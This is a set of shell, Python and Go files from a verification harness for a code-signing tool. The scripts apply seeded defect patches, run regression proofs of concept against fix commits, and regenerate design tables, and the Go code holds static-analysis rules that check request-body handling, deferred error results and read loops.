    [ $code -ne 0 ] && { fail=1; echo "$out" | grep -E "^(REPORT|UNDECIDED|CONTROL)" | cut -c1-300; }
  done
}
variant shift
variant rename
rm -rf "$d"
exit $fail
