#!/usr/bin/env python3
"""Regenerates the machine-derived tables of DESIGN.md (between the BEGIN/END GENERATED markers):
rules as registered in the checker, fix commits / findings from KNOWN_FINDINGS.txt, seeded changes
from seeded/*/meta.json, mutant corpus sizes from mutants/index.json."""
import json, re, os, glob, subprocess, collections
V = "/verif"
out = []
# ---- rules
rules = collections.OrderedDict()
for f in sorted(glob.glob(V + "/checker/c*.go")):
    src = open(f).read()
    for m in re.finditer(r'c\.Rule\(\s*("?[A-Za-z0-9]+"?|r[a-z]),\s*"((?:[^"\\]|\\.)*)",\s*(\d+)\)', src):
        rid, stmt, mn = m.group(1).strip('"'), m.group(2), int(m.group(3))
        if len(rid) == 2:  # constant alias ra..rf -> resolve
            c = re.search(r'\b' + rid + r'\s*=\s*"([A-Za-z0-9]+)"', src)
            rid = c.group(1) if c else rid
        rules[rid] = (stmt.replace('\\"', '"'), mn)
out.append("#### Rules as registered in the checker (statement, hand-confirmed minimum of instances)\n")
out.append("| rule | statement | min |\n|---|---|---|")
for rid in sorted(rules, key=lambda r: (r[1:3], r)):
    out.append("| %s | %s | %d |" % (rid, rules[rid][0].replace("|", "\\|"), rules[rid][1]))
# ---- fixes / findings
out.append("\n#### Defects found on the pinned tree (from KNOWN_FINDINGS.txt)\n")
out.append("| kind | property | commit | what failed |\n|---|---|---|---|")
for line in open(V + "/KNOWN_FINDINGS.txt"):
    line = line.strip()
    m = re.match(r'fixed: property=(C\d+) ([0-9a-f]{7}) (.*)', line)
    if m:
        out.append("| fixed | %s | `%s` | %s |" % (m.group(1), m.group(2), m.group(3).replace("|", "\\|")))
    m = re.match(r'finding: property=(C\d+) (.*)', line)
    if m:
        out.append("| known finding | %s | - | %s |" % (m.group(1), m.group(2).replace("|", "\\|")[:600]))
# ---- seeds
out.append("\n#### Independently seeded changes and the rule that reports each\n")
out.append("| id | what was changed (from the author's README, first line) | detected by |\n|---|---|---|")
for d in sorted(glob.glob(V + "/seeded/C*-s*")):
    try:
        m = json.load(open(d + "/meta.json"))
    except Exception:
        continue
    first = ""
    try:
        for l in open(d + "/README.md"):
            l = l.strip()
            if l and not l.startswith("#") and len(l) > 30:
                first = l
                break
    except Exception:
        pass
    det = ", ".join(m.get("detected_by") or []) if m.get("detected") else "**missed** — " + (m.get("why_missed", "")[:300])
    out.append("| %s | %s | %s |" % (m["id"], first[:260].replace("|", "\\|"), det.replace("|", "\\|")))
# ---- mutants
idx = json.load(open(V + "/mutants/index.json"))
specs = idx if isinstance(idx, list) else idx.get("specs", idx.get("mutants", []))
cnt = collections.Counter()
for s in specs:
    cnt[(s.get("property"), s.get("kind"))] += 1
out.append("\n#### Mutant corpus (thorough tier)\n")
out.append("| property | mutants (incl. reverse-of-fix) | neutral refactors |\n|---|---|---|")
for p in sorted({k[0] for k in cnt}):
    out.append("| %s | %d | %d |" % (p, cnt[(p, "mutant")], cnt[(p, "neutral")]))
text = "\n".join(out) + "\n"
p = V + "/DESIGN.md"
s = open(p).read()
b, e = "<!-- BEGIN GENERATED TABLES -->", "<!-- END GENERATED TABLES -->"
if b in s and e in s:
    s = s[:s.index(b) + len(b)] + "\n" + text + s[s.index(e):]
    open(p, "w").write(s)
    print("DESIGN.md tables regenerated (%d rules)" % len(rules))
else:
    print(text)
