#!/bin/bash
# usage: try_seed.sh <patch.diff> <property> [tier]  — applies the patch to /repo, runs the check, reverts.
set -u
patch=$1; prop=$2; tier=${3:-quick}
cd /repo || exit 2
if ! git apply --check "$patch" 2>/dev/null; then echo "PATCH DOES NOT APPLY: $patch"; exit 3; fi
git apply "$patch"
out=$(/verif/bin/relicvet -property "$prop" -tier "$tier" -evidence /tmp/try_seed_ev.json 2>&1); code=$?
git checkout -- .
for f in $(git ls-files --others --exclude-standard); do rm -f "$f"; done
echo "exit=$code"
echo "$out" | grep -E "^(REPORT|UNDECIDED|CONTROL|FATAL)" | cut -c1-330
exit 0
