#!/bin/bash
# Runs the C11 PoC tests (pocs/c11/<id>/poc_test.go) in the scratch worktree /tmp/wt-poc at /repo's HEAD.
# A PoC FAILS while the defect is present.
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local; unset GOWORK
cd /tmp/wt-poc || exit 2
git checkout -q --detach "$(git -C /repo rev-parse HEAD)"
while read -r id pkg; do
  [ -f "/verif/pocs/c11/$id/poc_test.go" ] || continue
  cp "/verif/pocs/c11/$id/poc_test.go" "/tmp/wt-poc/$pkg/zz_poc_test.go"
  go test -vet=off -count=1 -timeout 120s "./$pkg/" > "/tmp/poc_$id.log" 2>&1; code=$?
  echo "$id exit=$code $(grep -m2 -E 'panic:|--- FAIL|allocated|requested' /tmp/poc_$id.log | tr '\n' ' ' | cut -c1-200)"
  git clean -fq -- "$pkg/zz_poc_test.go"
done <<LIST
A1 lib/binpatch
A2 lib/authenticode
A3 lib/authenticode
A4 lib/authenticode
A5 lib/signappx
A6 lib/cabfile
A7 lib/zipslicer
A8 lib/fruit/xar
B1 lib/comdoc
B2 lib/comdoc
B3 lib/comdoc
B4 lib/fruit/machos
B5 lib/fruit/machos
B6 lib/fruit/csblob
B7 lib/fruit/csblob
LIST
