#!/bin/bash
# usage: try_neutrals_dev.sh <Cxx> — like try_neutrals.sh with SUFFIX=n2, using the development binary
# /tmp/relicvet_dev (for use while a thorough run holds /verif/bin/relicvet)
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local; unset GOWORK
p=$1; l=$(echo $p | tr A-Z a-z)
mkdir -p /verif/seeded/_neutral_incoming /tmp/dev_verif
[ -d /tmp/wt-$l-${SUFFIX:-n2}/out ] && { rm -rf /verif/seeded/_neutral_incoming/$p; cp -r /tmp/wt-$l-${SUFFIX:-n2}/out /verif/seeded/_neutral_incoming/$p; }
for k in 1 2 3 4 5 6; do
  pf=/verif/seeded/_neutral_incoming/$p/$k/patch.diff
  [ -f $pf ] || { echo "== $p/$k: no patch"; continue; }
  d=$(mktemp -d /tmp/tryneutral-XXXXXX)
  rsync -a --exclude .git /repo/ "$d/"
  if ! (cd $d && patch -p1 -s < $pf >/dev/null 2>&1); then echo "== $p/$k: PATCH DOES NOT APPLY"; rm -rf $d; continue; fi
  if ! (cd $d && go build ./... >/dev/null 2>&1); then echo "== $p/$k: DOES NOT BUILD"; rm -rf $d; continue; fi
  alarms=$(for i in 01 02 03 04 05 06 07 08 09 10 11 12 13 14 15 16 17 18 19 20; do echo $i; done | xargs -P 4 -I{} sh -c "RELICVET_CTL=/verif/checker/testdata/ctl /tmp/relicvet_dev -repo $d -verif /tmp/dev_verif -property C{} -tier quick -evidence $d/.ev{}.json 2>&1 | grep -E '^(REPORT|UNDECIDED|CONTROL|FATAL)' | cut -c1-260")
  if [ -z "$alarms" ]; then echo "== $p/$k: silent"; else echo "== $p/$k: ALARM"; echo "$alarms"; fi
  rm -rf $d
done
