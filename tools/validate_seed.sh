#!/bin/bash
# usage: validate_seed.sh <worktree> <seed-dir> <pkgdir>
# Confirms a seeded change: demo passes on the clean tree, change compiles, demo fails with it,
# pinned suite still passes with it. Leaves the worktree clean. Prints one RESULT line.
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local; unset GOWORK
wt=$1; sd=$2; pkg=$3
cd "$wt" || exit 2
git checkout -q -- . ; rm -f "$pkg"/zz_seed_demo_test.go
cp "$sd/demo_test.go" "$pkg/zz_seed_demo_test.go"
go test -vet=off -count=1 "./$pkg/" >/tmp/vs_clean.log 2>&1; clean=$?
git apply "$sd/patch.diff" || { echo "RESULT apply-failed"; exit 1; }
go build ./... >/tmp/vs_build.log 2>&1; build=$?
go test -vet=off -count=1 "./$pkg/" >/tmp/vs_mut.log 2>&1; mut=$?
rm -f "$pkg"/zz_seed_demo_test.go
go test -vet=off -count=1 ./... >/tmp/vs_suite.log 2>&1; suite=$?
npass=$(go test -vet=off -count=1 -v ./... 2>/dev/null | grep -c -- '--- PASS')
git checkout -q -- .
echo "RESULT demo_on_clean=$clean build=$build demo_with_change=$mut suite_with_change=$suite pass_lines=$npass"
