package main

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"math/big"
	"os"
	"time"
)

func main() {
	key, _ := rsa.GenerateKey(rand.Reader, 2048)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "e2e", Organization: []string{"e2e"}}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning}, BasicConstraintsValid: true, IsCA: true}
	der, _ := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	os.WriteFile("key.pem", pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(key)}), 0600)
	os.WriteFile("cert.pem", pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0644)
}
