#!/bin/bash
# usage: run.sh <relic binary> <outdir>
bin=$1; out=$2; mkdir -p $out
for f in ClassLibrary1.dll WindowsFormsApplication1.exe WindowsFormsApplication1.exe.manifest dummy.apk dummy.cab dummy.dmg dummy.msi dummy.pkg dummy.xap hello.jar hello.ps1 hello.mof hello.ps1xml VSIXProject1.vsix App1_1.0.3.0_x64.appx hyperv.cat slimfile.app fatfile.app; do
  cp -r /repo/functest/packages/$f $out/in_$f 2>/dev/null
  s=$($bin -c /tmp/e2e/relic.yml sign -k k -f /repo/functest/packages/$f -o $out/$f 2>&1 | tail -1 | cut -c1-100)
  v=$($bin -c /tmp/e2e/relic.yml verify --cert /tmp/e2e/cert.pem $out/$f 2>&1 | head -1 | cut -c1-100)
  echo "$f | sign: $s | verify: $v"
done
