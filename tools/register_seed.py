#!/usr/bin/env python3
"""register_seed.py <incoming-dir> <id> <property> <pkgdir> <validation-line> — moves a confirmed
seeded change to /verif/seeded/<id>/ and writes meta.json (detected_by is filled by run_seeds.py)."""
import json, os, re, shutil, sys
src, sid, prop, pkg, val = sys.argv[1:6]
dst = os.path.join("/verif/seeded", sid)
os.makedirs(dst, exist_ok=True)
for f in ("patch.diff", "demo_test.go", "README.md"):
    shutil.copy(os.path.join(src, f), os.path.join(dst, f))
readme = open(os.path.join(dst, "README.md")).read()
meta = {
    "id": sid, "property": prop,
    "origin": "written by an independent sub-agent given only the property text and a scratch worktree",
    "demo": {"file": "demo_test.go", "place_in": pkg, "run": "go test -vet=off -count=1 ./%s/" % pkg},
    "needs_to_manifest": "see README.md",
    "confirmed_by_me": {
        "how": "tools/validate_seed.sh in a scratch worktree: demo passes on clean HEAD, patch applies and `go build ./...` succeeds, demo fails with the patch, `go test -vet=off -count=1 ./...` still passes (47 PASS lines)",
        "result": val,
    },
}
json.dump(meta, open(os.path.join(dst, "meta.json"), "w"), indent=1)
print("registered", sid)
