#!/bin/bash
# Runs each PoC against the commit before its fix (must FAIL) and at the fix (must PASS), in a scratch worktree.
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local; unset GOWORK
WT=${1:-/tmp/wt-poc}
run() { # poc-file pkgdir fix-commit
  local f=$1 pkg=$2 fix=$3
  for rev in "$fix^" "$fix"; do
    git -C $WT checkout -q --detach $(git -C /repo rev-parse "$rev") || return
    cp /verif/pocs/$f $WT/$pkg/zz_poc_test.go
    if (cd $WT && go test -vet=off -count=1 ./$pkg/ >/tmp/poc.log 2>&1); then res=PASS; else res=FAIL; fi
    rm -f $WT/$pkg/zz_poc_test.go
    echo "$f @ $rev: $res"
  done
}
run C20_health_loop_test.go server 5a54a19
run C13_atomicfile_test.go lib/atomicfile 13db83c
run C13_atomicfile_test.go lib/atomicfile 1a7f7da
run C13_fileproducer_test.go signers 49e610a
run C15_doretry_negative_retries_test.go token/worker 3d832de
run C04_getkey_dangling_alias_test.go config 25742f7
run C10_vsix_unverified_timestamp_test.go signers/vsix 9423249
run C12_binpatch_load_test.go lib/binpatch 7fd31a3
run c13/merge_clearsign_flush_error_test.go lib/pgptools 286f563
run c02/powershell_eol_before_block_test.go lib/authenticode 718a44a
run c11/dmg_negative_signature_length_test.go lib/fruit/dmg 68354ee
run c11/macho_negative_padding_test.go lib/fruit/machos 24d6965
