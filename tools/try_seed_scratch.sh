#!/bin/bash
# usage: try_seed_scratch.sh <patch.diff> <property> [tier] — like try_seed.sh but on a scratch copy of /repo
# (safe while something else reads /repo's working tree); the copy is removed afterwards.
set -u
patch=$1; prop=$2; tier=${3:-quick}
d=$(mktemp -d /tmp/tryseed-XXXXXX)
rsync -a --exclude .git /repo/ "$d/"
cd "$d" || exit 2
if ! patch -p1 -s --dry-run < "$patch" >/dev/null 2>&1; then echo "PATCH DOES NOT APPLY: $patch"; rm -rf "$d"; exit 3; fi
patch -p1 -s < "$patch"
out=$(/verif/bin/relicvet -repo "$d" -property "$prop" -tier "$tier" -evidence /tmp/try_seed_ev.json 2>&1); code=$?
rm -rf "$d"
echo "exit=$code"
echo "$out" | grep -E "^(REPORT|UNDECIDED|CONTROL|FATAL)" | cut -c1-330
exit 0
