#!/bin/bash
# usage: try_dev.sh <patch> <Cxx>... — like try_seed_scratch.sh but with the development binary /tmp/relicvet_dev
# (for use while a thorough run holds /verif/bin/relicvet)
patch=$1; shift
d=$(mktemp -d /tmp/trydev-XXXXXX)
rsync -a --exclude .git /repo/ "$d/"
(cd $d && patch -p1 -s < $patch) || { echo "PATCH DOES NOT APPLY"; rm -rf $d; exit 3; }
mkdir -p /tmp/dev_verif
for p in "$@"; do
  out=$(RELICVET_CTL=/verif/checker/testdata/ctl /tmp/relicvet_dev -repo $d -verif /tmp/dev_verif -property $p -tier quick -evidence /tmp/dev_ev_$p.json 2>&1)
  echo "$p exit=$? $(echo "$out" | grep -E '^(REPORT|UNDECIDED|CONTROL|FATAL)' | cut -c1-${COLS:-260})"
done
rm -rf $d
