package main

// C09, rules added after the second seeding round: R09h (an attempt's body is closed before
// the next attempt), R09i (a deferred function does not overwrite the error result with a
// possibly-nil value), R09j (the appx member reader is read to io.EOF).

import (
	"fmt"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func c09Round2(c *Ctx) {
	p := c.P
	c.Rule("R09h", "the body of an abandoned attempt is closed before the next attempt is built", 1)
	c.Rule("R09i", "a deferred function never overwrites the error result with a value that may be nil", 2)
	c.Rule("R09j", "the appx member reader is consumed until io.EOF: the raw tee and the CRC check see the whole member", 1)

	// ---- R09h
	if fn := p.Func("cmdline/remotecmd.(*client).doRequest"); fn == nil {
		c.Undecided("R09h", "(*client).doRequest", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		for _, f := range bodyClosedPerAttempt(p, fn) {
			c.Check(f.OK, "R09h", f.Key, f.Pos, "Close() on every path from Do to the next attempt", f.Detail, f.Path...)
		}
	}
	// ---- R09i
	for _, f := range deferOverwritesError(p) {
		c.Check(f.OK, "R09i", f.Key, f.Pos, "guarded", f.Detail)
	}
	c.runControl("R09i deferred overwrite control (ctl/deferr.Copy)", "deferr.Copy", deferOverwritesError)
	// ---- R09k
	c.Rule("R09k", "a request's GetBody yields a new reading of the source, never the stream captured when the request was built", 1)
	for _, f := range getBodyFresh(p) {
		c.Check(f.OK, "R09k", f.Key, f.Pos, "fresh reader", f.Detail)
	}
	// ---- R09m
	c.Rule("R09m", "closing the read blocker of a request body stops further reads on every path on which Close can succeed", 1)
	for _, f := range blockerCloseBlocks(p) {
		c.Check(f.OK, "R09m", f.Key, f.Pos, "", f.Detail)
	}
	// ---- R09l
	c.Rule("R09l", "the APK signer digests the end-of-directory record of the serialiser whose output it patches in", 1)
	for _, f := range apkDigestedDirectoryIsWrittenDirectory(p) {
		c.Check(f.OK, "R09l", f.Key, f.Pos, "", f.Detail)
	}
	// ---- R09j
	if fn := p.Func("lib/signappx.(*blockMap).AddFile"); fn == nil {
		c.Undecided("R09j", "(*blockMap).AddFile", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		fs := readToEOF(p, fn, "io.CopyN")
		if len(fs) == 0 {
			c.Undecided("R09j", "(*blockMap).AddFile read loop", p.Pos(fn.Pos()), "no loop around an io.CopyN call found")
		}
		for _, f := range fs {
			c.Check(f.OK, "R09j", f.Key, f.Pos, "the loop is left on io.EOF or with an error only", f.Detail, f.Path...)
		}
	}
}

// isBodyLoad: v is a load of (*http.Request).Body.
func isBodyLoad(p *Prog, v ssa.Value) bool {
	u, ok := stripConv(v).(*ssa.UnOp)
	if !ok || u.Op != token.MUL {
		return false
	}
	tn, f, _ := p.fieldAddr(u.X)
	return strings.HasSuffix(tn, "net/http.Request") && f == "Body"
}

func bodyClosedPerAttempt(p *Prog, fn *ssa.Function) (out []gFinding) {
	dos := p.callsIn(fn, "(*net/http.Client).Do")
	if len(dos) == 0 {
		return []gFinding{{Key: p.FName(fn) + " sends the request", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no call of (*http.Client).Do found"}}
	}
	// blocks that close the body (a plain call; a defer runs when the function returns, which is
	// after every later attempt), and edges on which the body is known to be nil
	del := map[edge]bool{}
	closes := 0
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			switch x := in.(type) {
			case *ssa.Call:
				if x.Common().IsInvoke() && x.Common().Method.Name() == "Close" && isBodyLoad(p, x.Common().Value) {
					closes++
					for si := range b.Succs {
						del[edge{b.Index, si}] = true
					}
				}
			case *ssa.If:
				bo, ok := x.Cond.(*ssa.BinOp)
				if !ok || (bo.Op != token.NEQ && bo.Op != token.EQL) {
					continue
				}
				var other ssa.Value
				if isBodyLoad(p, bo.X) {
					other = bo.Y
				} else if isBodyLoad(p, bo.Y) {
					other = bo.X
				}
				if k, isK := other.(*ssa.Const); other != nil && isK && k.IsNil() {
					if bo.Op == token.NEQ {
						del[edge{b.Index, 1}] = true
					} else {
						del[edge{b.Index, 0}] = true
					}
				}
			}
		}
	}
	for i, d := range dos {
		key := fmt.Sprintf("%s attempt#%d releases its body", p.FName(fn), i+1)
		db := d.Block()
		// where does the next attempt start: the block that creates the request handed to Do
		var next *ssa.BasicBlock
		if len(d.Common().Args) > 1 {
			if def, ok := stripConv(d.Common().Args[1]).(ssa.Instruction); ok {
				next = def.Block()
			}
		}
		if ex, ok := stripConv(d.Common().Args[len(d.Common().Args)-1]).(*ssa.Extract); ok {
			if call, ok := ex.Tuple.(*ssa.Call); ok {
				next = call.Block()
			}
		}
		if next == nil {
			out = append(out, gFinding{Key: key, Pos: p.Pos(d.Pos()), OK: false, Detail: "cannot find where the request sent by Do is built"})
			continue
		}
		// a Close in Do's own block after the call settles it
		settled := false
		after := false
		for _, in := range db.Instrs {
			if in == d.(ssa.Instruction) {
				after = true
				continue
			}
			if call, ok := in.(*ssa.Call); after && ok && call.Common().IsInvoke() && call.Common().Method.Name() == "Close" && isBodyLoad(p, call.Common().Value) {
				settled = true
			}
		}
		if settled {
			out = append(out, gFinding{Key: key, Pos: p.Pos(d.Pos()), OK: true})
			continue
		}
		pred := map[int]int{}
		var starts []*ssa.BasicBlock
		for si, s := range db.Succs {
			if !del[edge{db.Index, si}] {
				starts = append(starts, s)
			}
		}
		seen := reach(fn, starts, del, pred)
		if seen[next.Index] {
			out = append(out, gFinding{Key: key, Pos: p.Pos(d.Pos()), OK: false, Path: p.witness(fn, pred, next.Index),
				Detail: fmt.Sprintf("the next attempt can be built without the previous request's body having been closed (%d plain Close calls on Request.Body in the function; a deferred Close runs only when doRequest returns): the abandoned attempt's transport goroutine keeps reading the shared source file while the retry has rewound it, so the server can receive and sign a file with holes", closes)})
		} else {
			out = append(out, gFinding{Key: key, Pos: p.Pos(d.Pos()), OK: true})
		}
	}
	return out
}

// deferOverwritesError: a function with a named error result that a deferred closure assigns to.
// The assignment is fine when the stored value cannot be nil (a freshly made error), when it is
// guarded by a nil test of the stored value, or by a nil test of the result itself.
func deferOverwritesError(p *Prog) (out []gFinding) {
	for _, fn := range p.Funcs {
		if fn.Parent() != nil {
			continue
		}
		res := fn.Signature.Results()
		if res.Len() == 0 || !isErrorType(res.At(res.Len()-1).Type()) || res.At(res.Len()-1).Name() == "" {
			continue
		}
		rname := res.At(res.Len() - 1).Name()
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				df, ok := in.(*ssa.Defer)
				if !ok {
					continue
				}
				mc, ok := df.Call.Value.(*ssa.MakeClosure)
				if !ok {
					continue
				}
				anon := mc.Fn.(*ssa.Function)
				for k, fv := range anon.FreeVars {
					bind, ok := mc.Bindings[k].(*ssa.Alloc)
					if !ok || bind.Comment != rname || !isErrorType(derefType(bind.Type())) {
						continue
					}
					n := 0
					for _, ab := range anon.Blocks {
						for _, ain := range ab.Instrs {
							st, ok := ain.(*ssa.Store)
							if !ok || st.Addr != ssa.Value(fv) {
								continue
							}
							n++
							key := fmt.Sprintf("%s deferred store to %s#%d", p.FName(fn), rname, n)
							okv, why := deferredStoreGuarded(p, anon, fv, st)
							out = append(out, gFinding{Key: key, Pos: p.Pos(st.Pos()), OK: okv,
								Detail: "a deferred function assigns to the error result " + rname + " " + why + ": when the body failed and this call succeeds the failure is replaced by nil and the caller carries on with a partial result"})
						}
					}
				}
			}
		}
	}
	return out
}

func derefType(t types.Type) types.Type {
	if pt, ok := t.Underlying().(*types.Pointer); ok {
		return pt.Elem()
	}
	return t
}

func deferredStoreGuarded(p *Prog, anon *ssa.Function, cell ssa.Value, st *ssa.Store) (bool, string) {
	v := stripConv(st.Val)
	// a value that is an error by construction
	switch x := v.(type) {
	case *ssa.MakeInterface:
		return true, ""
	case *ssa.Call:
		switch p.calleeName(x.Common()) {
		case "errors.New", "fmt.Errorf", "errors.Join":
			return true, ""
		}
	}
	isCellLoad := func(x ssa.Value) bool {
		u, ok := stripConv(x).(*ssa.UnOp)
		return ok && u.Op == token.MUL && u.X == cell
	}
	// a nil test of the stored value or of the result dominates the store
	for _, b := range anon.Blocks {
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok || !b.Dominates(st.Block()) || b == st.Block() {
			continue
		}
		bo, ok := ifi.Cond.(*ssa.BinOp)
		if !ok || (bo.Op != token.EQL && bo.Op != token.NEQ) {
			continue
		}
		var other, subj ssa.Value
		if k, isK := bo.Y.(*ssa.Const); isK && k.IsNil() {
			other, subj = bo.Y, bo.X
		} else if k, isK := bo.X.(*ssa.Const); isK && k.IsNil() {
			other, subj = bo.X, bo.Y
		}
		if other == nil {
			continue
		}
		if stripConv(subj) == v || isCellLoad(subj) {
			return true, ""
		}
	}
	return false, "without testing either the new value or the result for nil"
}

// readToEOF: the loop around the named read call may be left towards the function's success
// return only on the edge that established err == io.EOF.
func readToEOF(p *Prog, fn *ssa.Function, readCall string) (out []gFinding) {
	for _, ci := range p.callsIn(fn, readCall) {
		L, H := loopAround(fn, ci.Block())
		if H == nil {
			continue
		}
		key := fmt.Sprintf("%s loop around %s", p.FName(fn), readCall)
		okAll := true
		detail := ""
		var path []string
		for bi := range L {
			b := fn.Blocks[bi]
			for si, s := range b.Succs {
				if L[s.Index] {
					continue
				}
				// leaving the loop: by io.EOF?
				if ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If); ok {
					if bo, ok := ifi.Cond.(*ssa.BinOp); ok && (bo.Op == token.EQL || bo.Op == token.NEQ) {
						isEOF := func(v ssa.Value) bool {
							u, ok := stripConv(v).(*ssa.UnOp)
							if !ok || u.Op != token.MUL {
								return false
							}
							g, ok := u.X.(*ssa.Global)
							return ok && g.Pkg != nil && g.Pkg.Pkg.Path() == "io" && (g.Name() == "EOF" || g.Name() == "ErrUnexpectedEOF")
						}
						if isEOF(bo.X) || isEOF(bo.Y) {
							if (bo.Op == token.EQL && si == 0) || (bo.Op == token.NEQ && si == 1) {
								continue
							}
						}
					}
				}
				// or with an error only; an io.EOF test just outside the loop (`if err != nil { if err ==
				// io.EOF { break }; return err }`) is taken into account by cutting its EOF side
				if onlyErrorReturns(p, fn, s, L) {
					continue
				}
				eofEdges := map[edge]bool{}
				for _, ob := range fn.Blocks {
					oi, ok := ob.Instrs[len(ob.Instrs)-1].(*ssa.If)
					if !ok {
						continue
					}
					obo, ok := oi.Cond.(*ssa.BinOp)
					if !ok || (obo.Op != token.EQL && obo.Op != token.NEQ) {
						continue
					}
					isEOF := func(v ssa.Value) bool {
						u, ok := stripConv(v).(*ssa.UnOp)
						if !ok || u.Op != token.MUL {
							return false
						}
						g, ok := u.X.(*ssa.Global)
						return ok && g.Pkg != nil && g.Pkg.Pkg.Path() == "io" && (g.Name() == "EOF" || g.Name() == "ErrUnexpectedEOF")
					}
					if isEOF(obo.X) || isEOF(obo.Y) {
						if obo.Op == token.EQL {
							eofEdges[edge{ob.Index, 0}] = true
						} else {
							eofEdges[edge{ob.Index, 1}] = true
						}
					}
				}
				if len(eofEdges) > 0 && !L[s.Index] {
					seen := reach(fn, []*ssa.BasicBlock{s}, eofEdges, nil)
					bad := false
					succ := map[*ssa.Return]bool{}
					for _, r := range p.successReturns(fn) {
						succ[r] = true
					}
					for bi2 := range seen {
						if L[bi2] {
							bad = true
						}
						if r, ok := fn.Blocks[bi2].Instrs[len(fn.Blocks[bi2].Instrs)-1].(*ssa.Return); ok && succ[r] {
							bad = true
						}
					}
					if !bad {
						continue
					}
				}
				okAll = false
				detail = fmt.Sprintf("the read loop can be left at %s towards the success return without io.EOF having been seen: the tail of the member (and with it part of the raw bytes the digest is taken over, and the CRC check at EOF) is skipped", p.Pos(lastPos(b)))
				path = []string{fmt.Sprintf("b%d -> b%d", b.Index, s.Index)}
			}
		}
		out = append(out, gFinding{Key: key, Pos: p.Pos(ci.Pos()), OK: okAll, Detail: detail, Path: path})
	}
	return out
}

func lastPos(b *ssa.BasicBlock) token.Pos {
	for i := len(b.Instrs) - 1; i >= 0; i-- {
		if b.Instrs[i].Pos().IsValid() {
			return b.Instrs[i].Pos()
		}
	}
	return token.NoPos
}

// onlyErrorReturns: every return reachable from s without entering L returns a non-nil error.
func onlyErrorReturns(p *Prog, fn *ssa.Function, s *ssa.BasicBlock, L map[int]bool) bool {
	ei := errResultIndex(fn.Signature)
	if ei < 0 {
		return false
	}
	seen := reach(fn, []*ssa.BasicBlock{s}, nil, nil)
	succ := map[*ssa.Return]bool{}
	for _, r := range p.successReturns(fn) {
		succ[r] = true
	}
	for bi := range seen {
		if L[bi] {
			return false
		}
		if r, ok := fn.Blocks[bi].Instrs[len(fn.Blocks[bi].Instrs)-1].(*ssa.Return); ok && succ[r] {
			return false
		}
	}
	return true
}

// getBodyFresh (R09k): when the HTTP stack replays a request by itself (307/308, a refused HTTP/2
// stream) it asks GetBody for the body. The answer must be a new reading of the source - a reader
// made inside the function (bytes.NewReader of the encoded bytes, a fresh GetReader()) - never the
// stream that was captured when the request was built, of which the first send consumed some or all.
func getBodyFresh(p *Prog) (out []gFinding) {
	n := 0
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				tn, f, _ := p.fieldAddr(st.Addr)
				if !strings.HasSuffix(tn, "net/http.Request") || f != "GetBody" {
					continue
				}
				n++
				key := fmt.Sprintf("%s GetBody#%d", p.FName(fn), n)
				mc, ok := st.Val.(*ssa.MakeClosure)
				if !ok {
					// a plain function (no captured state) or nil
					out = append(out, gFinding{Key: key, Pos: p.Pos(st.Pos()), OK: true, Detail: "no captured state"})
					continue
				}
				anon := mc.Fn.(*ssa.Function)
				bad := ""
				for _, r := range returnsOf(anon) {
					if len(r.Results) == 0 {
						continue
					}
					// the returned reader hangs on a captured reader value
					dependsOn(r.Results[0], func(x ssa.Value) bool {
						fv, ok := x.(*ssa.FreeVar)
						if !ok {
							return false
						}
						t := fv.Type()
						if pt, isP := t.Underlying().(*types.Pointer); isP {
							t = pt.Elem()
						}
						if _, isIface := t.Underlying().(*types.Interface); isIface {
							ms := types.NewMethodSet(t)
							if ms.Lookup(nil, "Read") != nil && ms.Lookup(nil, "GetReader") == nil {
								bad = fv.Name()
							}
						}
						return false
					})
				}
				out = append(out, gFinding{Key: key, Pos: p.Pos(st.Pos()), OK: bad == "",
					Detail: "GetBody hands back the reader captured in " + bad + ", the very stream the first send has already read from: a replay by the HTTP stack (307/308 redirect, refused HTTP/2 stream) uploads only what is left of it, and the next server digests and signs that remainder"})
			}
		}
	}
	return out
}
