package main

// Rules added after the fourth seeding round: R03j, R03k (= R17r), R17q, R19j.

import (
	"fmt"
	"go/token"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// ------------------------------------------------------------------------------ R17q

// truncateOffsetIndependent: the directory offset Truncate records must be the same whether or
// not the retained members are copied out: it may not hang on the optional body writer.
func truncateOffsetIndependent(p *Prog) (out []gFinding) {
	fn := p.Func("lib/zipslicer.(*Directory).Truncate")
	if fn == nil {
		return []gFinding{{Key: "(*Directory).Truncate", Pos: "-", OK: false, Detail: "function not found"}}
	}
	// the optional writer parameters and the tests of them against nil
	var nilTests []*ssa.BasicBlock
	for _, b := range fn.Blocks {
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok {
			continue
		}
		bo, ok := ifi.Cond.(*ssa.BinOp)
		if !ok || (bo.Op != token.NEQ && bo.Op != token.EQL) {
			continue
		}
		for _, pair := range [][2]ssa.Value{{bo.X, bo.Y}, {bo.Y, bo.X}} {
